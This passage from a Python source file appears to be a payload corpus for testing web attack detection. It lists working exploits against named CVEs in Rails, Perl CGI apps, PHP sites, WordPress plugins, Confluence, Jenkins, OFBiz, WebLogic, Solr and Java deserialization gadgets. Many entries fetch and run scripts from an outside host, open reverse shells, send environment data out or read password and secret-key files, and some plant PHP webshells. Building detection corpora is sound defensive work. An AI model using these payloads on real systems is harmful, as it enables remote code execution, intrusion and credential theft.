        {"type": "NumberLiteral", "value": "process.mainModule.require('child_process').execSync('id')"}],
        "loc": {"start": 0, "end": 0}}]}}), "/api/preferences", "", "rs-json-body", "json-body"),
    P(_doc({"__proto__": {"argv0": "node", "shell": "node", "NODE_OPTIONS": "--inspect=203.0.113.5:9229"}}),
      "/api/jobs", "", "rs-json-body", "json-body"),
    P(_doc({"constructor": {"prototype": {"env": {"EVIL": "console.log(require('child_process').execSync('id')"
                                                          ".toString())//"},
                                          "NODE_OPTIONS": "--require /proc/self/environ"}}}), "/api/merge", "",
      "rs-json-body", "json-body"),
    P(_doc({"__proto__": {"json spaces": 10}}), "/api/profile", "", "rs-json-body", "json-body"),
    P(_doc({"__proto__": {"status": 555}}), "/api/cart", "", "rs-json-body", "json-body"),
    P(_doc({"__proto__": {"exposedHeaders": ["x-polluted"]}}), "/api/account", "", "rs-json-body", "json-body"),
    P(_doc({"__proto__": {"client": True, "escapeFunction": "1;return global.process.mainModule.constructor"
                                                             "._load('child_process').execSync('id')"}}),
      "/api/options", "", "rs-json-body", "json-body"),
    P(_doc({"path": "constructor.prototype.outputFunctionName",
            "value": "x;process.mainModule.require('child_process').execSync('id');x"}), "/api/config/set", "",
      "rs-json-body", "json-body"),
    P("__proto__[json spaces]=10", "/api/users", "", "rs-raw-query", "raw-query"),
    P("constructor[prototype][status]=510", "/", "", "rs-raw-query", "raw-query"),
    P("__proto__[innerHTML]=<img/src/onerror=alert(document.domain)>", "/", "", "rs-raw-query", "raw-query"),
    P("__proto__[src]=data:,alert(1)//", "/search", "", "rs-raw-query", "raw-query"),
    P("__proto__[url][]=data:,alert(1)//&__proto__[dataType]=script", "/", "", "rs-raw-query", "raw-query"),
    P("__proto__[srcdoc][]=<script>alert(1)</script>", "/", "", "rs-raw-query", "raw-query"),
    P("constructor.prototype.shell=/proc/self/exe&constructor.prototype.argv0=console.log(require('child_process')"
      ".execSync('id').toString())//", "/api/settings", "", "rs-raw-body", "raw-form"),
    P("__proto__.isAdmin=true&__proto__.role=admin", "/upload", "", "rs-multipart-kv", "multipart-kv"),
]
RAILS_YAML_XML = ('<?xml version="1.0" encoding="UTF-8"?>\n<exploit type="yaml">--- !ruby/hash:ActionController::'
                  "Routing::RouteSet::NamedRouteCollection\n? ! \"foo\\n(require 'open3'; Open3.popen3('id'))\\n"
                  "__END__\\n\"\n: !ruby/struct\n  defaults:\n    :action: create\n    :controller: foos\n"
                  "  required_parts: []\n  requirements:\n    :action: create\n    :controller: foos\n"
                  "  segment_keys:\n  - :format\n</exploit>")
RAILS_YAML_JSON = ("--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n? ! \"foo\\n(system('"
                   "curl http://203.0.113.5/x.sh | sh'))\\n__END__\\n\"\n: !ruby/struct\n  defaults:\n    :action: "
                   "create\n    :controller: foos\n  required_parts: []\n  requirements:\n    :action: create\n"
                   "    :controller: foos\n  segment_keys:\n  - :format\n")
PSYCH_UNIVERSAL = ("---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
                   "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
                   "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
                   "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
                   "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter"
                   "\n                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
                   "             git_set: id\n         method_id: :resolve\n")
PSYCH_LOADED_FROM = ("--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
                     "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
                     "      loaded_from: \"|curl http://203.0.113.5/r.sh | sh 1>&2\"\n"
                     "  - !ruby/object:Gem::Source::SpecificFile\n      spec:\n")
# Ruby code injection: Rails XML parameter parsing of type="yaml" (CVE-2013-0156) and JSON-to-YAML (CVE-2013-0333),
# the Psych YAML.load universal gadget chains (Gem::Installer / Gem::StubSpecification loaded_from), the Rails
# cookie store Marshal gadget signed with a leaked secret_token, Spree API search[instance_eval] and
# search[send] (the Metasploit modules), Rails web-console repl_sessions `input`, CarrierWave/open-uri
# remote_*_url through Kernel#open pipes, and Ruby calculators and admin consoles that eval text
RUBY: list[Entry] = [
    P(RAILS_YAML_XML, "/users/sign_in", "", "rs-xml", "xml"),
    P(RAILS_YAML_JSON, "/posts", "", "rs-body:application/json", "body:application/json"),
    P(PSYCH_UNIVERSAL, "/api/import", "", "rs-body:application/x-yaml", "body:application/x-yaml"),
    P(PSYCH_LOADED_FROM, "/settings/import", "yaml", "rs-form"),
    P(rails_cookie("%x(id)", "a4f5c3b8e1d2f7a9c6b0e3d8f1a2b5c7"), "/", "_myapp_session", "rs-cookie", "cookie"),
    P(rails_cookie("system('curl http://203.0.113.5/r.sh | sh')", "0b5c9d2e7f4a1b8c3d6e9f2a5b8c1d4e"), "/admin",
      "_session_id", "rs-cookie", "cookie"),
    P("search[instance_eval]=Kernel.fork%20do%20%60id%60%20end", "/api/orders", "", "rs-raw-query", "raw-query"),
    P("search[send][]=eval&search[send][]=Kernel.fork%20%7B%20%60id%60%20%7D", "/api/orders.json", "",
      "rs-raw-query", "raw-query"),
    P("system('id')", "/__web_console/repl_sessions/8a3e6f2c1b9d4e7f0a5b", "input", "rs-form"),
    P("|curl -s http://203.0.113.5/r.rb | ruby", "/users/1", "user[remote_avatar_url]", "rs-form"),
    P("|ruby -rsocket -e'c=TCPSocket.new(\"203.0.113.5\",4444);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print "
      "io.read}end'", "/api/image_proxy", "url"),
    P("system('cat /etc/passwd')", "/calculate", "expression"),
    P("eval(%q(IO.popen('id').read))", "/calculate", "expression", "rs-json"),
    "Kernel.exec('/bin/sh -c id')",
    "IO.popen(['id']).read",
    "File.read('config/master.key')",
    "Kernel.public_method(:system).call('id')",
    P("#{`id`}", "/admin/snippets", "title", "rs-form"),
    "\";system('id');\"",
    "require 'net/http';Net::HTTP.get(URI('http://203.0.113.5/?'+ENV.to_h.to_s))",
    "$stdout.puts(`cat /etc/shadow`)",
]
MT_XMLRPC = ('<?xml version="1.0" encoding="UTF-8"?><methodCall><methodName>mt.handler_to_coderef</methodName>'
             "<params><param><value><base64>{}</base64></value></param></params></methodCall>")
PERL_SOCKET = ('use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect'
               '(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");'
               'exec("/bin/sh -i");};')
# Perl code injection: ExifTool's DjVu annotation eval (CVE-2021-22204) in an image uploaded to GitLab's
# /uploads/user (CVE-2021-22205), Movable Type XML-RPC mt.handler_to_coderef (CVE-2021-20837), AWStats
# `configdir` and `migrate` reaching two-argument open() pipes, TWiki's `rev` into backticks and TWiki/Foswiki
# %MAKETEXT{}%, CGI scripts that open() a parameter, and form-to-mail / guestbook scripts that eval a string
PERL: list[Entry] = [
    P("(metadata \"\\c${system('id')};\")", "/uploads/user", "file", "rs-multipart-file", "multipart-file",
      fname="avatar.jpg"),
    P("(metadata (Copyright \"\\\n\" . qx{echo pwned >/tmp/pwned} . \\\n\" b \") )", "/uploads/user", "file",
      "rs-multipart-file", "multipart-file", fname="logo.djvu"),
    P(MT_XMLRPC.replace("{}", _b64("`id`")), "/cgi-bin/mt/mt-xmlrpc.cgi", "", "rs-xml", "xml"),
    P(MT_XMLRPC.replace("{}", _b64("`wget http://203.0.113.5/s -O /tmp/s;perl /tmp/s`")), "/mt/mt-xmlrpc.cgi",
      "", "rs-xml", "xml"),
    P("|echo;echo;id;echo;echo|", "/awstats/awstats.pl", "configdir"),
    P("|echo;cat /etc/passwd;echo|awstats052005.www.example.com.txt", "/cgi-bin/awstats.pl", "migrate"),
    P("2 |id||echo ", "/twiki/bin/view/Main/TWikiUsers", "rev"),
    P("%MAKETEXT{\"test [_1] secondtest\\\\'}; `id`; { #\" args=\"test\"}%", "/bin/save/Sandbox/TestTopic",
      "text", "rs-form"),
    P("|cat /etc/passwd|", "/cgi-bin/view.cgi", "file"),
    P("/bin/ls -la /|", "/cgi-bin/index.pl", "page"),
    P("');system('id');#", "/cgi-bin/guestbook.pl", "name", "rs-form"),
    P("\";system(\"id\");#", "/cgi-bin/formmail.pl", "recipient", "rs-form"),
    "@{[system 'id']}",
    "${\\ `cat /etc/passwd`}",
    PERL_SOCKET,
    "use IO::Socket::INET;$c=IO::Socket::INET->new(PeerAddr,'203.0.113.5:4444');STDIN->fdopen($c,r);"
    "$~->fdopen($c,w);system$_ while<>;",
    "qx{wget -O /tmp/b http://203.0.113.5/b; perl /tmp/b}",
    "print `id`",
    "sub{`id`}->()",
    "eval(pack('H*','" + b"system('id')".hex() + "'))",
    "open(F,'/etc/shadow');print <F>",
]
SHELL_BACKDOOR = ('<?php if(isset($_REQUEST[\'cmd\'])){ echo "<pre>"; $cmd = ($_REQUEST[\'cmd\']); system($cmd); '
                  'echo "</pre>"; die; }?>')
WP_PLUGINS = "/wp-content/plugins/"
MAIL_MASTA = WP_PLUGINS + "mail-masta/inc/campaign/count_of_send.php"
SITE_EDITOR = WP_PLUGINS + "site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php"
GWOLLE = WP_PLUGINS + "gwolle-gb/frontend/captcha/ajaxresponse.php"
# PHP include of a data: stream (allow_url_include=On): WordPress Mail Masta count_of_send.php `pl`, Site Editor
# ajax_shortcode_pattern.php `ajax_path`, Gwolle Guestbook ajaxresponse.php `abspath` (the appended
# "wp-load.php" only lands in the data), Localize My Post include.php `file`, php-cgi argument injection
# (CVE-2012-1823) with auto_prepend_file, and the page= / lang= / module= includes of small PHP sites
PHP_DATA: list[Entry] = [
    P("data://text/plain,<?php system('id');?>", GWOLLE, "abspath"),
    P("data://text/plain;base64," + _b64("<?php system($_GET['cmd']); ?>"), MAIL_MASTA, "pl"),
    P("data:text/plain,<?php echo shell_exec($_GET['c']); ?>", SITE_EDITOR, "ajax_path"),
    P("data://text/plain;base64," + _b64("<?php file_put_contents('shell.php','<?php @eval($_POST[1]);?>'); ?>"),
      WP_PLUGINS + "localize-my-post/ajax/include.php", "file"),
    P("data://text/plain,<?php phpinfo(); ?>", "/index.php", "page"),
    P("data://text/plain;base64," + _b64("<?php $s=fsockopen('203.0.113.5',4444);exec('/bin/sh -i <&3 >&3 2>&3');"
                                         " ?>"), "/index.php", "lang"),
    P("data:;base64," + _b64("<?php echo md5('data-wrapper-probe');?>"), "/index.php", "module"),
    P("data://text/plain,<?php print(file_get_contents('/etc/passwd'));?>", MAIL_MASTA, "pl"),
    P("-d+allow_url_include%3d1+-d+auto_prepend_file%3ddata://text/plain;base64," + _b64("<?php system('id'); ?>"),
      "/index.php", "", "rs-raw-query", "raw-query"),
    P("data://text/plain;charset=utf-8;base64," + _b64("<?php passthru('uname -a'); ?>"), "/index.php", "inc"),
    P("data:text/html,<?php readfile('../wp-config.php'); ?>", SITE_EDITOR, "ajax_path"),
    P("data://text/plain,<?=`$_GET[x]`?>", "/index.php", "view"),
    P("data://text/plain;base64," + _b64("<?php eval($_REQUEST['e']); ?>"), "/index.php", "template"),
    P("php://filter/read=convert.base64-decode/resource=data://plain/text," + _b64("<?php system('id');?>"),
      "/index.php", "file"),
    "DaTa://text/plain,<?php system('whoami');?>",
    P("data://text/plain;base64," + _b64("<?php copy('http://203.0.113.5/s.txt','s.php'); ?>"), GWOLLE, "abspath"),
    "data:text/plain;base64," + _b64("<?php echo '<pre>'.shell_exec('ls -la').'</pre>'; ?>"),
    P("data://text/plain," + SHELL_BACKDOOR, "/index.php", "page", "rs-form"),
    "data://image/png;base64," + _b64("<?php system('id'); ?>"),
    "data:,<?php system($_GET[1]);?>",
]

# --- java --------------------------------------------------------------------------------------------------------
CONFLUENCE_21_26084 = ("aaa\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022javax.script."
                       "ScriptEngineManager\\u0022).newInstance().getEngineByName(\\u0022js\\u0022).eval("
                       "\\u0022var x=new java.lang.ProcessBuilder;x.command([\\u0027id\\u0027]);x.start()"
                       "\\u0022)}+\\u0027")
DRUID_SPEC = {"type": "index", "spec": {"ioConfig": {"type": "index", "firehose": {
    "type": "local", "baseDir": "/etc", "filter": "passwd"}}, "dataSchema": {"dataSource": "test", "parser": {
        "parseSpec": {"format": "javascript", "timestampSpec": {}, "dimensionsSpec": {},
                      "function": "function(){var a = new java.util.Scanner(java.lang.Runtime.getRuntime().exec("
                                  "[\"sh\",\"-c\",\"id\"]).getInputStream()).useDelimiter(\"\\\\A\").next();return "
                                  "{timestamp:123123,test: a}}", "": {"enabled": "true"}}}}},
    "samplerConfig": {"numRows": 10}}
SOLR_DIH = ('<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function poc(row){ var bufReader = new '
            "java.io.BufferedReader(new java.io.InputStreamReader(java.lang.Runtime.getRuntime().exec(\"id\")"
            ".getInputStream())); var result = []; while(true) { var oneline = bufReader.readLine(); result.push("
            "oneline); if(!oneline) break; } row.put(\"title\",result.join(\"\\n\")); return row; }]]></script>"
            '<document><entity name="stackoverflow" url="https://stackoverflow.com/feeds/tag/solr" '
            'processor="XPathEntityProcessor" forEach="/feed" transformer="script:poc" /></document></dataConfig>')
HIKARI_QUERY = ("CREATE ALIAS EXEC AS CONCAT('String shellexec(String cmd) throws java.io.IOException { java.util."
                "Scanner s = new',' java.util.Scanner(Runtime.getRun','time().exec(cmd).getInputStream()); if (s."
                "hasNext()) {return s.next();} throw new IllegalArgumentException(); }');CALL EXEC('id');")
METABASE_DB = ("zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER "
               "pwnshell BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime()"
               ".exec('id')\n$$--=x")
# Java class names in injected code: Confluence createpage-entervariables `queryString` (CVE-2021-26084),
# Elasticsearch 1.x Groovy script_fields sandbox bypass (CVE-2015-1427), the Apache Druid sampler's JavaScript
# parseSpec (CVE-2021-25646), Solr DataImportHandler script transformer `dataConfig` (CVE-2019-0193), the H2
# console JDBC URL INIT (CVE-2021-42392), Spring Boot actuator /env hikari connection-test-query, Apache Commons
# Text string lookups (CVE-2022-42889), Metabase setup/validate H2 trigger (CVE-2023-38646), and Groovy /
# Nashorn / BeanShell consoles (Jenkins, Yonyou NC's BshServlet, BPM script tasks)
JAVA_CLASS: list[Entry] = [
    P(CONFLUENCE_21_26084, "/pages/createpage-entervariables.action", "queryString", "rs-form"),
    P(_doc({"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script": "java.lang.Math.class.forName("
                                                   "\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}}),
      "/_search", "", "rs-json-body", "json-body"),
    P(_doc(DRUID_SPEC), "/druid/indexer/v1/sampler", "", "rs-json-body", "json-body"),
    P(SOLR_DIH, "/solr/collection1/dataimport?command=full-import&debug=true", "dataConfig", "rs-form"),
    P("jdbc:h2:mem:;INIT=CREATE ALIAS SHELLEXEC AS $$ String shellexec(String cmd) throws java.io.IOException { "
      "java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()).useDelimiter("
      "\"\\\\A\"); return s.hasNext() ? s.next() : \"\"; }$$\\;CALL SHELLEXEC('id')", "/h2-console/login.do", "url",
      "rs-form"),
    P(_doc({"name": "spring.datasource.hikari.connection-test-query", "value": HIKARI_QUERY}), "/actuator/env", "",
      "rs-json-body", "json-body"),
    P("${script:js:new java.lang.ProcessBuilder('bash','-c','id').start()}", "/text4shell/attack", "search"),
    P(_doc({"token": "5491c003-41c2-482d-bab4-6e174aa1738c", "details": {
        "is_on_demand": False, "is_full_sync": False, "is_sample": False, "cache_ttl": None, "refingerprint": False,
        "auto_run_queries": True, "schedules": {}, "details": {"db": METABASE_DB, "advanced-options": False,
                                                               "ssl": True}, "name": "x", "engine": "h2"}}),
      "/api/setup/validate", "", "rs-json-body", "json-body"),
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    P("Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class).invoke(Class.forName(\"java.lang."
      "Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")", "/scriptText", "script", "rs-form"),
    P("java.lang.Thread.sleep(10000)", "/scriptText", "script", "rs-form"),
    P("print(new java.util.Scanner(new java.io.File(\"/etc/passwd\")).useDelimiter(\"\\\\Z\").next());",
      "/servlet/~ic/bsh.servlet.BshServlet", "bsh.script", "rs-form"),
    P("java.lang.System.setSecurityManager(null);java.lang.Runtime.getRuntime().exec('id')", "/script", "script",
      "rs-form"),
    "Java.type('java.lang.Runtime').getRuntime().exec('id')",
    "new javax.naming.InitialContext().lookup(\"ldap://203.0.113.5:1389/Exploit\")",
    "java.rmi.registry.LocateRegistry.getRegistry(\"203.0.113.5\",1099).lookup(\"Object\")",
    "new java.net.URL(\"http://java-probe.oast.example/\").getContent()",
    "java.lang.reflect.Array.newInstance(java.lang.Class.forName(\"java.lang.String\"),1)",
]
ES_MVEL = {"size": 1, "query": {"filtered": {"query": {"match_all": {}}}}, "script_fields": {"command": {
    "script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream())"
              ".useDelimiter(\"\\\\A\").next();"}}}
NEXUS_JEXL = {"action": "coreui_Component", "method": "previewAssets", "data": [{
    "page": 1, "start": 0, "limit": 50, "sort": [{"property": "name", "direction": "ASC"}],
    "filter": [{"property": "repositoryName", "value": "*"},
               {"property": "expression", "value": "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"},
               {"property": "type", "value": "jexl"}]}], "type": "rpc", "tid": 8}
UNOMI_MVEL = {"filters": [{"id": "sample", "filters": [{"condition": {"parameterValues": {
    "": "script::Runtime r = Runtime.getRuntime(); r.exec(\"touch /tmp/unomi\");"},
    "type": "profilePropertyCondition"}}]}], "sessionId": "sample"}
GROOVY_REVSHELL = ('String host="203.0.113.5";int port=4444;String cmd="/bin/bash";Process p=new ProcessBuilder(cmd)'
                   ".redirectErrorStream(true).start();Socket s=new Socket(host,port);InputStream pi=p.getInputStream()"
                   ",pe=p.getErrorStream(),si=s.getInputStream();OutputStream po=p.getOutputStream(),so=s.getOutput"
                   "Stream();while(!s.isClosed()){while(pi.available()>0)so.write(pi.read());while(pe.available()>0)"
                   "so.write(pe.read());while(si.available()>0)po.write(si.read());so.flush();po.flush();Thread.sleep"
                   "(50);try {p.exitValue();break;}catch (Exception e){}};p.destroy();s.close();")
OFBIZ_PROGRAM = "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y"
# Process spawning from injected JVM code: the Jenkins script console and scriptText (Groovy execute()), Jenkins
# Script Security checkScript (the CVE-2019-1003000 sandbox bypass chain), Apache OFBiz ProgramExport
# `groovyProgram` behind the requirePasswordChange auth bypass (CVE-2023-51467) and its unicode-escaped
# bypass, Elasticsearch 1.x MVEL script_fields (CVE-2014-3120), the WebLogic console MVEL ShellSession
# (CVE-2020-14882 / CVE-2020-14883), Nexus Repository JEXL previewAssets (CVE-2019-7238), Yonyou NC BshServlet,
# Apache Unomi MVEL conditions (CVE-2020-13942), Liferay's Groovy script console, the Grails console plugin
JAVA_SPAWN: list[Entry] = [
    P('println "id".execute().text', "/script", "script", "rs-form"),
    P('def sout = new StringBuffer(), serr = new StringBuffer(); def proc = ["bash","-c","cat /etc/passwd"].execute();'
      ' proc.consumeProcessOutput(sout, serr); proc.waitForOrKill(1000); println "out> $sout err> $serr"',
      "/scriptText", "script", "rs-form"),
    P("sandbox=true&value=public%20class%20x%20%7B%0A%20%20public%20x()%7B%0A%20%20%20%20%22curl%20http://203.0.113.5"
      "/x.sh%20-o%20/tmp/x.sh%22.execute()%0A%20%20%7D%0A%7D", "/securityRealm/user/admin/descriptorByName/org."
      "jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript", "", "rs-raw-query",
      "raw-query"),
    P("throw new Exception('id'.execute().text);", OFBIZ_PROGRAM, "groovyProgram", "rs-form"),
    P("".join(f"\\u{ord(c):04x}" for c in "throw new Exception('whoami'.execute().text);"), OFBIZ_PROGRAM,
      "groovyProgram", "rs-form"),
    P(_doc(ES_MVEL), "/_search?pretty", "", "rs-json-body", "json-body"),
    P("_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime()"
      ".exec('id');%22)", "/console/css/%252e%252e%252fconsole.portal", "", "rs-raw-query", "raw-query"),
    P(_doc(NEXUS_JEXL), "/service/extdirect", "", "rs-json-body", "json-body"),
    P('exec("whoami");', "/servlet/~ic/bsh.servlet.BshServlet", "bsh.script", "rs-form"),
    P(_doc(UNOMI_MVEL), "/context.json", "", "rs-json-body", "json-body"),
    P(GROOVY_REVSHELL, "/script", "script", "rs-form"),
    P('"wget http://203.0.113.5/b -O /tmp/b".execute().waitFor()', "/console/execute", "code", "rs-form"),
    'var pb = new java.lang.ProcessBuilder("bash","-c","id"); var p = pb.start(); new java.util.Scanner('
    'p.getInputStream()).useDelimiter("\\\\A").next();',
    'java.lang.Runtime.getRuntime().exec(["bash","-c","bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"])',
    'Runtime.runtime.exec("id").inputStream.text',
    P('"cmd /c whoami".execute().text', "/scriptText", "script", "rs-form"),
    P('def proc = "id".execute(); out.println(proc.text)', "/group/control_panel/manage",
      "_com_liferay_server_admin_web_portlet_ServerAdminPortlet_script", "rs-form"),
    P("new ProcessBuilder('sh','-c','id').start().text", OFBIZ_PROGRAM, "groovyProgram", "rs-form"),
]
JSF = "/faces/login.xhtml"
OFBIZ_SER = ('<?xml version="1.0"?><methodCall><methodName>ProjectDiscovery</methodName><params><param><value>'
             '<struct><member><name>test</name><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/'
             'extensions">{}</serializable></value></member></struct></value></param></params></methodCall>')
# Java serialization streams, magic bytes ac ed 00 05: JBoss /invoker/readonly (CVE-2017-12149) and
# /invoker/JMXInvokerServlet, Spring HttpInvoker remoting endpoints, JSF ViewState (javax.faces.ViewState,
# unencrypted client state: raw base64 and Mojarra's gzip+base64), Apache OFBiz XML-RPC <serializable>
# (CVE-2020-9496), and the hex / base64 / base64url / percent-encoded forms testers send in cookies, fields and
# headers (detection probes: a String, a Boolean, an Integer, an empty HashSet)
JAVA_SER: list[Entry] = [
    P(_latin(cc5("id")), "/invoker/readonly", "", "rs-raw-body", latin=True),
    P(_latin(cc6("touch /tmp/jboss")), "/invoker/JMXInvokerServlet", "", "rs-raw-body", latin=True),
    P(_latin(cc5("nslookup httpinvoker.oast.example")), "/remoting/AccountService", "", "rs-raw-body", latin=True),
    P(_b64(cc5("bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}")), JSF, "javax.faces.ViewState", "rs-form"),
    P(_b64(SER_PROBE_STRING), JSF, "javax.faces.ViewState", "rs-form"),
    P(_gzb64(cc6("curl http://203.0.113.5/jsf.sh -o /tmp/jsf.sh")), "/javax.faces.resource/jsf.js.xhtml",
      "javax.faces.ViewState", "rs-form"),
    P(OFBIZ_SER.replace("{}", _b64(cc6("wget http://203.0.113.5/o -O /tmp/o"))), "/webtools/control/xmlrpc", "",
      "rs-xml", "xml"),
    P(OFBIZ_SER.replace("{}", _b64(cc5("powershell -nop -c iwr http://203.0.113.5/a.ps1|iex"))),
      "/webtools/control/xmlrpc/", "", "rs-xml", "xml"),
    _hexs(cc5("ping -c 3 203.0.113.5"), upper=True),
    base64.urlsafe_b64encode(cc5("id")).decode().rstrip("="),
    P(_latin(SER_PROBE_STRING), latin=True),
    P(_b64(SER_EMPTY_SET), "/", "prefs", "rs-cookie", "cookie"),
    P(_latin(SER_PROBE_BOOLEAN), latin=True),
    base64.urlsafe_b64encode(cc6("uname -a")).decode().rstrip("="),
    base64.encodebytes(cc5("cat /etc/passwd")).decode(),
    P(_latin(SER_PROBE_INTEGER), "/invoker/EJBInvokerServlet", "", "rs-raw-body", latin=True),
    _hexs(SER_EMPTY_SET),
    _b64(SER_PROBE_INTEGER),
]
LIFERAY_C3P0 = ('cmd={"/expandocolumn/add-column":{}}&p_auth=o3lt8q1F&formDate=1585270368703&tableId=1&name=2&type=3'
                "&defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource={\"userOverridesAsString\":"
                "\"HexAsciiSerializedMap:" + _hexs(cc6("id"), upper=True) + ";\"}")
XSTREAM_GROOVY = ("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
                  "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\" reference="
                  "\"../../../..\"/><owner class=\"java.lang.ProcessBuilder\"><command><string>id</string></command>"
                  "<redirectErrorStream>false</redirectErrorStream></owner><resolveStrategy>0</resolveStrategy>"
                  "<directive>0</directive><parameterTypes/><maximumNumberOfParameters>0</maximumNumberOfParameters>"
                  "<method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties>"
                  "</groovy.util.Expando><int>1</int></entry></map>")
FASTJSON_GROOVY = ('[{"@type":"java.lang.Exception","@type":"org.codehaus.groovy.control.CompilationFailedException",'
                   '"unit":{}},{"@type":"org.codehaus.groovy.control.ProcessingUnit","@type":"org.codehaus.groovy.'
                   'tools.javac.JavaStubCompilationUnit","config":{"@type":"org.codehaus.groovy.control.'
                   'CompilerConfiguration","classpathList":"http://203.0.113.5:8000/"}}]')
MYSQL_JDBC = ("jdbc:mysql://203.0.113.5:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc."
              "interceptors.ServerStatusDiffInterceptor&user=yso_CommonsCollections5_id")
# Deserialization gadget chains by name: Liferay JSON web services with the c3p0 WrapperConnectionPoolDataSource
# HexAsciiSerializedMap (CVE-2020-7961), fastjson and Jackson c3p0 / Spring / Hibernate / JTA gadgets,
# marshalsec's XStream Groovy Expando, fastjson 1.2.80's Groovy classpath gadget, MySQL Connector/J
# autoDeserialize JDBC URLs (data-source test endpoints), and ysoserial-shaped streams in base64: Groovy1,
# ROME, Jdk7u21, CommonsBeanutils1, CommonsCollections2/5/6
JAVA_GADGET: list[Entry] = [
    P(LIFERAY_C3P0, "/api/jsonws/invoke", "", "rs-raw-body", "raw-form"),
    P(_doc({"@type": "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
            "userOverridesAsString": "HexAsciiSerializedMap:" + _hexs(cc5("touch /tmp/c3p0")) + ";"}),
      "/api/v1/import", "", "rs-json-body", "json-body"),
    P('["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"rmi://203.0.113.5:1099/Exploit",'
      '"loginTimeout":0}]', "/api/v1/settings", "", "rs-json-body", "json-body"),
    P('["org.springframework.beans.factory.config.PropertyPathFactoryBean",{"targetBeanName":"ldap://203.0.113.5:'
      '1389/obj","propertyPath":"foo","beanFactory":["org.springframework.jndi.support.SimpleJndiBeanFactory",'
      '{"shareableResources":["ldap://203.0.113.5:1389/obj"]}]}]', "/api/v1/settings", "", "rs-json-body",
      "json-body"),
    P('["org.springframework.transaction.jta.JtaTransactionManager",{"userTransactionName":"rmi://203.0.113.5:1099/'
      'Object"}]', "/api/v2/orders", "", "rs-json-body", "json-body"),
    P('["org.hibernate.jmx.StatisticsService",{"sessionFactoryJNDIName":"ldap://203.0.113.5:1389/Exploit"}]',
      "/api/v2/orders", "", "rs-json-body", "json-body"),
    P(XSTREAM_GROOVY, "/struts2-rest-showcase/orders/3", "", "rs-xml", "xml"),
    P(FASTJSON_GROOVY, "/api/v1/items", "", "rs-json-body", "json-body"),
    P(MYSQL_JDBC, "/api/datasource/test", "url", "rs-json"),
    P(_b64(groovy1("curl http://203.0.113.5/g.sh -o /tmp/g.sh")), JSF, "javax.faces.ViewState", "rs-form"),
    P(_b64(rome("rome")), "/", "session", "rs-cookie", "cookie"),
    P(_b64(jdk7u21("jdk7")), "/remoting/UserService", "data", "rs-form"),
    P(_b64(cb1("cb1")), "/", "rememberMe", "rs-cookie", "cookie"),
    P(_b64(cc2("cc2")), "/api/session/restore", "state", "rs-json"),
    P(_hexs(cc6("nc 203.0.113.5 4444 -e /bin/sh")), "/api/cache/put", "value", "rs-json"),
    P("!!com.mchange.v2.c3p0.JndiRefForwardingDataSource {jndiName: \"rmi://203.0.113.5:1099/Exploit\", "
      "loginTimeout: 0}", "/api/config", "", "rs-body:application/x-yaml", "body:application/x-yaml"),
    P(_latin(rome("rome-raw")), "/invoker/readonly", "", "rs-raw-body", latin=True),
    P(_b64(jdk7u21("jdk7-b")), "/", "JSESSIONDATA", "rs-cookie", "cookie"),
]
LOG4J_HOST = "203.0.113.5:1389"
# Log4Shell (CVE-2021-44228, the CVE-2021-45046 localhost#host bypass, the CVE-2021-45105 recursion): the
# X-Api-Version header of the Spring Boot demo app, Solr /solr/admin/cores `action`, VMware Horizon's
# Accept-Language on /portal/info.jsp, vCenter's X-Forwarded-For on /websso/SAML2/SSO, UniFi /api/login
# `remember`, MobileIron j_username, Apache OFBiz's OFBiz.Visitor cookie, Druid and JSPWiki paths; lookups
# nested and obfuscated (lower/upper, ::-, env defaults, date, k8s/sd), data exfiltration through the host name
LOG4J: list[Entry] = [
